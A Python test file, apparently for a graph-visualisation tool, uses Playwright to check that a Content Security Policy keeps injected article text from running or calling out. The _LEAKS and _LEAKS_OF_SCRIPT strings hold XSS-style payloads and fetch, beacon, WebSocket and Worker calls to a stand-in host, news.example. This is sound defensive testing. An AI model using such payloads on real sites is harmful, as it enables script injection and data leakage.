"""Nothing leaves the page, and nothing that an article says is run, whatever it is."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from page_browser import Opened, opened
from page_graphs import HOSTILE, hostile_graph, small_graph
from sink import Sink
from tawthiq.notebook.page import Page as NotebookPage
from tawthiq.view import page_html, to_pyvis, write_page

pytestmark = pytest.mark.xdist_group("browser")

LOADS = "<img src='http://news.example/pixel.png'><script src='https://cdn.example/x.js'></script>"


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "graph.html"
    write_page(hostile_graph(), path, HOSTILE[2], "en")
    return path


@pytest.fixture
def hostile(browser: Browser, hostile_file: Path, sink: Sink) -> Iterator[Opened]:
    with opened(browser, hostile_file) as page:
        yield page
        assert page.evaluate("window.hacked") is None
        assert page.errors == []
        assert page.requests == []
    assert sink.asked == []


def test_there_are_twenty_hostile_texts_and_more() -> None:
    assert len(set(HOSTILE)) >= 20
    assert len(hostile_graph()) == len(HOSTILE)


def test_the_swallowing_network_sees_what_leaves_a_browser(
    browser: Browser, tmp_path: Path, sink: Sink
) -> None:
    """Without this the other tests could not fail."""
    assert sink.asked == []
    path = tmp_path / "page.html"
    path.write_text(LOADS)
    context = browser.new_context()
    page = context.new_page()
    page.goto(path.as_uri(), wait_until="commit")
    _wait(page, lambda: len(sink.asked) > 1)
    context.close()
    asked, sink.asked[:] = set(sink.asked), []
    assert asked == {"GET http://news.example/pixel.png HTTP/1.1", "CONNECT cdn.example:443 HTTP/1.1"}


def test_the_policy_holds_when_a_script_gets_in(browser: Browser, tmp_path: Path, sink: Sink) -> None:
    """What can run in a page runs here, as if the text of an article had become markup after all."""
    path = tmp_path / "graph.html"
    html = page_html(small_graph(), "t", "en")
    path.write_text(html.replace("</body>", f"{LOADS}{_LEAKS}</body>"), "utf-8")
    with opened(browser, path) as page:
        page.page.locator("#leak").click(force=True)
        page.evaluate(_LEAKS_OF_SCRIPT)
        page.page.wait_for_timeout(300)
        assert page.evaluate("window.hacked") is None
        assert page.page.url.startswith("file:")
        assert len([e for e in page.errors if "Content Security Policy" in e]) > 8
    assert sink.asked == []


_LEAKS = """
<script>window.hacked = 1</script>
<button id="leak" onclick="window.hacked = 2">leak</button>
<img src="x" onerror="window.hacked = 3">
<link rel="stylesheet" href="https://news.example/style.css">
<style>@import url(https://news.example/i.css); body { background: url(https://news.example/b.png) }</style>
<object data="https://news.example/object"></object>
<video src="https://news.example/video.mp4"></video>
<base href="https://news.example/">
"""
_LEAKS_OF_SCRIPT = """() => {
  const silently = (action) => { try { action(); } catch { /* refused */ } };
  silently(() => fetch("https://news.example/fetch").catch(() => {}));
  silently(() => navigator.sendBeacon("https://news.example/beacon", "x"));
  silently(() => new WebSocket("wss://news.example/socket"));
  silently(() => new EventSource("https://news.example/source"));
  silently(() => new Worker(URL.createObjectURL(new Blob(["fetch('https://news.example/worker')"]))));
  silently(() => { new Image().src = "https://news.example/image.png"; });
  setTimeout("window.hacked = 4");
}"""


def test_the_policy_lets_no_frame_load_and_no_form_leave(
    browser: Browser, tmp_path: Path, sink: Sink
) -> None:
    path = tmp_path / "graph.html"
    frame = "<iframe src='https://news.example/frame'></iframe>"
    form = "<form action='https://news.example/form'><input name='a' value='b'></form>"
    html = page_html(small_graph(), "t", "en").replace("</body>", f"{frame}{form}</body>")
    path.write_text(html, "utf-8")
    with opened(browser, path) as page:
        page.evaluate("document.querySelector('form').submit()")
        page.page.wait_for_timeout(300)
        assert page.page.url == path.as_uri()
        assert len([e for e in page.errors if "Content Security Policy" in e]) == 2
    # Chromium gets ready for a frame or a form before it asks the policy. It tells the host nothing.
    assert set(sink.asked) <= {"CONNECT news.example:443 HTTP/1.1"}
    sink.asked.clear()


def test_hostile_texts_stay_texts_in_every_view(hostile: Opened) -> None:
    page = hostile.page
    assert page.title() == HOSTILE[2]
    expect(page.locator("h1")).to_have_text(HOSTILE[2])
    for language in ("ar", "en"):
        page.click("#language")
        expect(page.locator("html")).to_have_attribute("lang", language)
        for number in range(len(HOSTILE)):
            hostile.evaluate("(id) => tawthiq.select({ node: id }, { bring: true, focus: true })", number)
        for tab in ("#tab-map", "#tab-table", "#tab-graph"):
            page.click(tab)
    foreign = (
        "img, iframe, object, embed, base, form, [onerror], [onload], [onclick], a[href^='javascript' i]"
    )
    assert hostile.evaluate(f'document.querySelectorAll("{foreign}").length') == 0


def test_hostile_quotes_stay_texts_in_the_panel(hostile: Opened) -> None:
    page = hostile.page
    for number in range(hostile.evaluate("tawthiq.data.edges.length")):
        hostile.evaluate("(id) => tawthiq.select({ edge: id }, { focus: true })", number)
        expect(page.locator("#panel blockquote")).to_have_count(1)
        text = page.locator("#panel").inner_text()
        assert not set("\u202a\u202b\u202c\u202d\u202e") & set(text), (
            "an embedding turns what stands after it"
        )
        assert hostile.evaluate("document.querySelectorAll('#panel a:not([href^=http])').length") == 0


def test_hostile_names_can_be_searched_for(hostile: Opened) -> None:
    page = hostile.page
    for query, found in (("img src", 1), ("constructor", 20), ("__proto__", 19), ("svg onload", 9)):
        page.fill("#search", query)
        expect(page.locator("#results [role=option]").first).to_contain_text(HOSTILE[found].split()[0])
        page.keyboard.press("Escape")


def test_a_notebooks_frame_asks_nobody_and_works(browser: Browser, tmp_path: Path, sink: Sink) -> None:
    """In a frame without an address and without an origin, as JupyterLab shows it."""
    path = tmp_path / "notebook.html"
    frame = NotebookPage(page_html(small_graph(), "Valley", "en"), 600)._repr_html_()
    path.write_text(f"<!DOCTYPE html><meta charset=utf-8>{frame}", "utf-8")
    context = browser.new_context(viewport={"width": 1366, "height": 800})
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(path.as_uri())
    inside = page.frame_locator("iframe")
    expect(inside.locator("#status")).to_contain_text("21")
    inside.locator("#tab-table").click()
    expect(inside.locator("tbody tr")).to_have_count(12)
    inside.locator("#search").fill("Falcon")
    inside.locator("#results [role=option]").first.click()
    expect(inside.locator("#panel h2")).to_have_text("Falcon Brigades")
    context.close()
    assert errors == []
    assert sink.asked == []


def test_what_pyvis_writes_of_hostile_texts_runs_none_of_them(browser: Browser, tmp_path: Path) -> None:
    graph = hostile_graph()
    network = to_pyvis(graph, language="en")
    path = tmp_path / "pyvis.html"
    path.write_text(network.generate_html().encode("utf-8", "replace").decode(), "utf-8")
    # It asks other hosts for styles.
    context = browser.new_context(viewport={"width": 1000, "height": 700}, offline=True)
    page = context.new_page()
    page.goto(path.as_uri())
    page.wait_for_timeout(200)
    for name in graph:
        point = page.evaluate("(id) => network.canvasToDOM(network.getPositions([id])[id])", name)
        page.mouse.move(point["x"] + 20, point["y"] + 20)
        page.mouse.move(point["x"] + 8, point["y"] + 8)
    assert page.evaluate("window.hacked") is None
    context.close()


def _wait(page: Page, condition: object) -> None:
    for _ in range(50):
        if callable(condition) and condition():
            return
        page.wait_for_timeout(100)
